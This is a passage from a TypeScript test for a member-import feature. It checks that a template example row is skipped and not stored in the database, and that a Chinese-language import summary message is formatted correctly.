      reason: CollegeMsg.IMPORT_EXAMPLE_ROW,
    });
    expect(
      await t.ctx.db.selectFrom('members').select('id').where('phone', '=', example[0]!).executeTakeFirst(),
    ).toBeUndefined();
    expect(CollegeMsg.IMPORT_SUMMARY(2, 0, 0, 1)).toBe('导入完成：新增2人，更新0人，未导入0行，跳过模板示例1行');
  });
});
